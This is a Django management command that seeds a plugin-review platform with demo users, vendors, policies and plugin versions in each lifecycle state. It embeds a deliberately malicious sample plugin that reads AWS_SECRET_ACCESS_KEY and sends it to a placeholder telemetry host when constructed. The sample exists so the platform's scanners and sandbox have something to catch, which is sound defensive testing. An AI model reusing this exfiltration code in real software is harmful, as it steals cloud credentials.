"""Load demo data: one user per role, two vendors, the default pipeline, and plugin
versions in every lifecycle state, all made through the services (so the audit log and
history are real). Running it again changes nothing and prints the logins.
"""

from datetime import date, time, timedelta
from pathlib import Path
from typing import Any

import yaml
from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management.base import BaseCommand, CommandError
from django.utils import timezone

from compliance.evidence import assessment_decide, compliance_sign_off, evidence_upload
from compliance.models import Checklist, Control, ControlAssessment
from compliance.services import framework_import
from decisions import approval, deployment
from decisions.deployment import environment_save
from decisions.exemptions import exemption_approve, exemption_request
from decisions.models import Environment
from decisions.policies import policies_sync, policy_files_load
from decisions.rubric import canonical_json
from decisions.rubric_versions import rubric_current
from decisions.services import decision_basis
from governance import roles
from governance.errors import FactsChanged
from governance.models import AllowedLicence, HostPlatform, ReviewerProfile, WorkingCalendar
from governance.services import pipeline_install_defaults
from reviews import services as review
from reviews.checks.engine import check_run_execute
from reviews.models import (
    CannedResponse,
    PerformanceBudget,
    ReviewerQualification,
    ReviewStatus,
    RunStatus,
    StageReview,
)
from reviews.responses import canned_response_save
from reviews.sandbox.runner import isolation_available
from reviews.threat_model import threat_model_prefill, threat_model_submit
from submissions import services as sub
from submissions.models import Organisation, Plugin, PluginVersion
from submissions.samples import MANIFEST_TEMPLATE, plugin_archive

DEFAULT_FRAMEWORK = Path(__file__).resolve().parents[3] / "compliance" / "frameworks" / "default.yaml"
PASSWORD = "warden-demo"  # noqa: S105 - demo logins, printed on purpose
USERS = [
    # username, role, organisation
    ("admin", None, None),
    ("platform", roles.PLATFORM_ADMINS, None),
    ("security", roles.SECURITY_REVIEWERS, None),
    ("performance", roles.PERFORMANCE_REVIEWERS, None),
    ("compliance", roles.COMPLIANCE_OFFICERS, None),
    ("board", roles.APPROVAL_BOARD, None),
    ("acme-author", roles.AUTHORS, "acme"),
    ("globex-author", roles.AUTHORS, "globex"),
]

# plugin, version, the state to leave it in; listed oldest first, since deploying a
# version supersedes the plugin's previously deployed one.
VERSIONS = [
    ("acme", "acme-exporter", "1.2.0", "superseded"),
    ("acme", "acme-exporter", "1.3.0", "deployed"),
    ("acme", "acme-exporter", "1.4.0", "in_review"),
    ("acme", "acme-exporter", "1.5.0", "draft"),
    ("acme", "acme-notifier", "1.8.0", "rolled_back"),
    ("acme", "acme-notifier", "1.9.0", "approved"),
    ("acme", "acme-notifier", "2.0.0", "awaiting_decision"),
    ("globex", "globex-sync", "0.7.0", "revoked"),
    ("globex", "globex-sync", "0.8.0", "changes_requested"),
    ("globex", "globex-sync", "0.9.0", "submitted"),
    ("globex", "globex-reporter", "0.9.0", "withdrawn"),
    ("globex", "globex-reporter", "1.0.0", "rejected"),
]


# The rejected demo version phones home: bandit and GuardDog both have something to say.
TELEMETRY = {
    "globex_reporter/telemetry.py": b"""import base64
import os
import subprocess
import urllib.request


def report(stats):
    token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
    body = base64.b64encode(repr(stats).encode())
    urllib.request.urlopen("http://telemetry.globex.example/collect?t=" + token, data=body)
    subprocess.call("uptime >> /tmp/globex.log", shell=True)
""",
    # ... and calls home as soon as the host constructs it: the sandbox sees it happen.
    "globex_reporter/plugin.py": b"""from .telemetry import report


class Plugin:
    def __init__(self, host=None):
        try:
            report({"started": True})
        except OSError:
            pass
""",
}

# acme-notifier 2.0.0 reads a variable its manifest does not declare: the sandbox notices.
NOTIFIER_2 = {
    "acme_notifier/plugin.py": b"""import os


class Plugin:
    def __init__(self, host=None):
        self.webhook = os.environ.get("SLACK_WEBHOOK_URL", "")
""",
}

# The reasons reviewers give most, each with the check or policy it is about (docs/workflow.md).
CANNED_RESPONSES = [
    {
        "key": "undeclared-network",
        "title": "Undeclared network access",
        "text": "The plugin connects to hosts its manifest does not declare. List every host it contacts "
        "under [permissions] network in plugin.toml (host:port), or remove the calls; the findings "
        "below show where they are made.",
        "check_key": "security.guarddog",
        "policy_key": "no-undeclared-capabilities",
        "stage_kinds": ["security"],
    },
    {
        "key": "undeclared-environment",
        "title": "Reads undeclared environment variables",
        "text": "In the sandbox the plugin read environment variables plugin.toml does not declare. Add "
        "them under [permissions] environment, or stop reading them.",
        "check_key": "security.behaviour",
        "policy_key": "no-undeclared-capabilities",
        "stage_kinds": ["security"],
    },
    {
        "key": "open-critical-finding",
        "title": "A critical finding is open",
        "text": "A critical finding is still open. Fix it, or send the remediation plan with a date, before "
        "the review can go on; if it is a false positive, say why in its thread.",
        "policy_key": "no-open-critical-findings",
        "stage_kinds": ["security"],
    },
    {
        "key": "performance-over-budget",
        "title": "Over the performance budget",
        "text": "The harness measured the plugin over the host platform's budget (the KPIs below). Bring it "
        "within the budget, or tell us why the host should allow more.",
        "check_key": "performance.harness",
        "policy_key": "performance-within-budget",
        "stage_kinds": ["performance"],
    },
    {
        "key": "missing-privacy-docs",
        "title": "Privacy documentation is missing",
        "text": "The documentation package is incomplete: add the privacy notice and the data-flow "
        "description that the [docs] section of plugin.toml names (privacy, data_flow).",
        "check_key": "eligibility.docs",
        "stage_kinds": ["eligibility", "compliance"],
    },
]

# acme-exporter names a benchmark, so the performance harness measures latency under load;
# 1.4.0 got slower per call than 1.3.0, so its review shows a regression.
# New in 1.4.0: export files get a random suffix, which bandit reports (B311) for the security
# reviewer to triage in the dossier (a file name is not a secret).
EXPORTER_NAMING = """import random
import string


def export_name(prefix: str) -> str:
    suffix = "".join(random.choice(string.ascii_lowercase) for _ in range(8))
    return f"{prefix}-{suffix}.csv"
"""
EXPORTER_SECONDS_PER_CALL = {"1.2.0": 0.002, "1.3.0": 0.002, "1.4.0": 0.004, "1.5.0": 0.004}
EXPORTER = """import time


class Plugin:
    def __init__(self, host=None):
        self.host = host


def bench():
    time.sleep({seconds})
"""


class Command(BaseCommand):
    help = __doc__

    def handle(self, *args: Any, verbosity: int = 1, **options: Any) -> None:
        if Organisation.objects.filter(slug="acme").exists():
            self._print_logins("Demo data is already loaded.")
            return
        if not isolation_available():  # the demo's plugins run in the sandbox, which needs it
            raise CommandError(
                "The demo runs its plugins' code in bubblewrap, which is not installed: "
                "apt-get install bubblewrap (make run does it when run as root), then run it again."
            )
        # Each step is a service that commits on its own (entry points are durable), as when a person takes it.
        users = self._users()
        pipeline_install_defaults(actor=users["platform"])
        rubric_current()  # the default rubric (docs/rubric.md)
        policies_sync(documents=policy_files_load(directory=settings.WARDEN_POLICY_DIR), actor=users["platform"])
        for fields in CANNED_RESPONSES:  # after the policies, which they name
            canned_response_save(response=CannedResponse(**fields), actor=users["platform"], changed=list(fields))
        host = HostPlatform.objects.create(
            name="Acme Cloud",
            api_version="2.4",
            is_default=True,
            resource_limits={"memory_mb": 256, "cpu_seconds": 10, "startup_ms": 500},
        )
        self.environments: list[Environment] = [  # staging first; production takes only what ran in staging
            environment_save(
                environment=Environment(
                    key=key, name=name, host_platform=host, order=order, requires_previous=order > 1
                ),
                actor=users["platform"],
                changed=["key", "name", "host_platform", "order", "requires_previous"],
            )
            for key, name, order in [("staging", "Staging", 1), ("production", "Production", 2)]
        ]
        PerformanceBudget.objects.create(
            host_platform=host,
            category="data-connector",
            startup_ms=400,
            peak_rss_mb=128,
            cpu_ms=300,
            latency_p95_ms=25,
            throughput_rps=200,
            typical_threads=4,
            peak_threads=16,
        )
        for spdx in ("MIT", "Apache-2.0", "BSD-3-Clause"):
            AllowedLicence.objects.create(spdx_id=spdx)
        framework, _new = framework_import(document=yaml.safe_load(DEFAULT_FRAMEWORK.read_text()))
        Checklist.objects.create(name="Every plugin").frameworks.add(framework)
        WorkingCalendar.objects.create(
            name="Office hours (UTC)",
            time_zone="UTC",
            working_days=[1, 2, 3, 4, 5],
            day_start=time(9),
            day_end=time(17),
            is_default=True,
        )
        for reviewer in ("security", "performance", "compliance"):
            ReviewerProfile.objects.create(user=users[reviewer], lead=users["platform"])
            ReviewerQualification.objects.create(
                reviewer=users[reviewer],
                stage_kind=reviewer,
                granted_by=users["platform"],
                earned_on=date(2026, 1, 1),
                expires_on=date(2027, 12, 31),
            )
        orgs = {
            slug: sub.organisation_create(name=name, slug=slug, actor=users["platform"])
            for slug, name in [("acme", "Acme Corp"), ("globex", "Globex")]
        }
        for username, _role, org in USERS:
            if org:
                sub.organisation_add_member(organisation=orgs[org], user=users[username], actor=users["platform"])
        plugins = {}
        for org, name, number, state in VERSIONS:
            if name not in plugins:
                plugins[name] = sub.plugin_create(
                    organisation=orgs[org], name=name, category="data-connector", actor=users[f"{org}-author"]
                )
            self._drive(plugins[name], number, state, users, users[f"{org}-author"])
        self._exemption(plugins["acme-notifier"], users)
        if verbosity:
            self._print_logins("Demo data loaded.")

    def _exemption(self, plugin: Plugin, users: dict[str, User]) -> None:
        """A sample exemption, asked for by the vendor and approved by the board."""
        exemption = exemption_request(
            actor=users["acme-author"],
            plugin=plugin,
            scope="plugin",
            policy_key="no-serious-vulnerable-dependencies",
            justification="The advisory is in an optional extra we do not install; the fix ships next release.",
            compensating_controls=["The extra is not installed on the host", "Egress limited to api.acme.example"],
            expires_at=timezone.now() + timedelta(days=90),
        )
        exemption_approve(exemption=exemption, actor=users["board"], reason="Demo: compensating controls seen.")

    def _approve(self, version: PluginVersion, board: User) -> None:
        """Approve on what the decision page shows; when the facts moved meanwhile the approval
        is refused with the new rating, and the board, having compared, decides on that one."""
        for _attempt in range(3):
            try:
                approval.version_approve(
                    version=version,
                    actor=board,
                    reason="Low risk; all stages passed.",
                    **decision_basis(version=version).ids,
                )
                return
            except FactsChanged:
                continue
        raise CommandError(f"{version}: its facts kept changing; approve it by hand. {_last_change(version)}")

    def _users(self) -> dict[str, User]:
        User = get_user_model()
        users = {}
        for username, role, _org in USERS:
            user = User.objects.create_user(
                username,
                f"{username}@warden.example",
                PASSWORD,
                is_staff=True,
                is_superuser=role is None and username == "admin",
            )
            if role and role != roles.AUTHORS:
                user.groups.add(Group.objects.get(name=role))
            users[username] = user
        return users

    def _drive(self, plugin: Plugin, number: str, state: str, users: dict[str, User], author: User) -> None:
        """Take one new version through the services to ``state``."""
        version = sub.version_create(plugin=plugin, artifact=self._archive(plugin, number, state), actor=author)
        if state == "draft":
            return
        sub.version_submit(version=version, actor=author)
        if state == "submitted":
            return  # the worker starts its review
        review.review_start(version=version)
        self._run_checks(version)  # eligibility passes on its own when they all pass
        if state == "withdrawn":
            sub.version_withdraw(version=version, actor=author, reason="Superseded by a rewrite before review.")
            return
        if state == "in_review":
            review.stage_claim(review=self._review(version, "security"), actor=users["security"])
            threat_model = threat_model_prefill(version=version, actor=author)
            threat_model_submit(threat_model=threat_model, actor=author)
            evidence_upload(
                version=version,
                controls=list(Control.objects.filter(key="sub-processors")),
                kind="policy",
                actor=author,
                description="Our sub-processors and where they are.",
                file=SimpleUploadedFile("sub-processors.pdf", b"%PDF-1.7\n% demo evidence\n"),
            )
            return
        if state == "rejected":
            review.stage_fail(
                review=self._review(version, "security"),
                actor=users["security"],
                reason="Sends telemetry to an undeclared host.",
                responses=[CannedResponse.objects.get(key="undeclared-network")],
            )
            return
        if state == "changes_requested":
            review.stage_request_changes(
                review=self._review(version, "compliance"),
                actor=users["compliance"],
                reason="The data-flow diagram is missing.",
                responses=[CannedResponse.objects.get(key="missing-privacy-docs")],
            )
            return
        for stage, who in [("security", "security"), ("performance", "performance")]:
            self._pass(version, stage, users[who])
        self._sign_off_compliance(version, users["compliance"])
        if state == "awaiting_decision":
            return
        self._approve(version, users["board"])
        staging, production = self.environments
        if state == "revoked":  # it ran in staging; the revocation stops it there
            deployment.version_deploy(version=version, environment=staging, actor=users["platform"])
            deployment.version_revoke(version=version, actor=users["board"], reason="A critical advisory affects it.")
        elif state in {"deployed", "superseded", "rolled_back"}:
            for environment in (staging, production):  # a newer version supersedes this one in both
                deployment.version_deploy(version=version, environment=environment, actor=users["platform"])
        if state == "rolled_back":  # out of production after an incident, then out of staging until the fix
            deployment.version_roll_back(
                version=version,
                environment=production,
                actor=users["platform"],
                reason="Error rate doubled after release.",
                incident="INC-2041",
            )
            deployment.version_roll_back(
                version=version,
                environment=staging,
                actor=users["platform"],
                reason="Taken out of staging too until the fix ships.",
                incident="INC-2041",
            )

    def _archive(self, plugin: Plugin, number: str, state: str) -> SimpleUploadedFile:
        if state == "rejected":
            return plugin_archive(plugin.name, number, files=TELEMETRY)  # something real for the scanners
        if (plugin.name, number) == ("acme-notifier", "2.0.0"):
            return plugin_archive(plugin.name, number, files=NOTIFIER_2)  # a concern for the rating
        if plugin.name != "acme-exporter":
            return plugin_archive(plugin.name, number)
        manifest = MANIFEST_TEMPLATE.format(
            name=plugin.name, version=number, module="acme_exporter", category=plugin.category
        )
        files = {"acme_exporter/plugin.py": EXPORTER.format(seconds=EXPORTER_SECONDS_PER_CALL[number]).encode()}
        if number >= "1.4.0":
            files["acme_exporter/naming.py"] = EXPORTER_NAMING.encode()
        return plugin_archive(
            plugin.name,
            number,
            manifest=manifest + '\n[performance]\nbenchmark = "acme_exporter.plugin:bench"\n',
            files=files,
        )

    def _run_checks(self, version: PluginVersion) -> None:
        """Run the queued checks here rather than in the worker, so the demo is complete
        as soon as the command returns (the worker's copies of these tasks find them done)."""
        for run_id in version.check_runs.filter(status=RunStatus.QUEUED).values_list("pk", flat=True):
            check_run_execute(run_id=run_id)

    def _review(self, version: PluginVersion, key: str) -> StageReview:
        self._run_checks(version)  # a reviewer decides once the stage's checks have run
        version.refresh_from_db()
        return version.stage_reviews.get(stage__key=key, round=version.review_round, status=ReviewStatus.IN_PROGRESS)

    def _sign_off_compliance(self, version: PluginVersion, officer: User) -> None:
        """Assess what the manifest could not decide, then sign off with a residual risk."""
        compliance = self._review(version, "compliance")
        for assessment in ControlAssessment.objects.filter(stage_review=compliance).exclude(status="done"):
            assessment_decide(assessment=assessment, actor=officer, result="met", reason="Demo: evidence seen.")
        compliance_sign_off(
            review=compliance, actor=officer, residual_risk="low", statement="Demo: controls met, no open evidence."
        )

    def _pass(self, version: PluginVersion, key: str, actor: User) -> None:
        review.stage_pass(review=self._review(version, key), actor=actor, reason="Demo: checks reviewed.")

    def _print_logins(self, headline: str) -> None:
        self.stdout.write(headline)
        self.stdout.write(f"Logins (password for all: {PASSWORD}):")
        for username, role, org in USERS:
            what = role or "superuser"
            self.stdout.write(f"  {username:<15} {what}{f' ({org})' if org else ''}")


def _last_change(version: PluginVersion) -> str:
    """What differs between the version's last two evaluations (facts and policy results), by path."""
    last = list(version.policy_evaluations.select_related("rating").order_by("-pk")[:2])
    if len(last) < 2:
        return ""
    now, before = last
    facts_before, facts_now = (getattr(e.rating, "facts", None) for e in (before, now))
    changes = [*_paths(facts_before, facts_now, "facts"), *_paths(before.results, now.results, "results")]
    return "What changed: " + "; ".join(changes[:10]) if changes else ""


def _paths(before: object, now: object, at: str) -> list[str]:
    if isinstance(before, dict) and isinstance(now, dict):
        keys = sorted(set(before) | set(now), key=str)
        return [c for k in keys for c in _paths(before.get(k), now.get(k), f"{at}.{k}")]
    if isinstance(before, list) and isinstance(now, list) and len(before) == len(now):
        return [c for i, (b, n) in enumerate(zip(before, now, strict=True)) for c in _paths(b, n, f"{at}[{i}]")]
    return [] if canonical_json(before) == canonical_json(now) else [f"{at}: {before!r} -> {now!r}"]
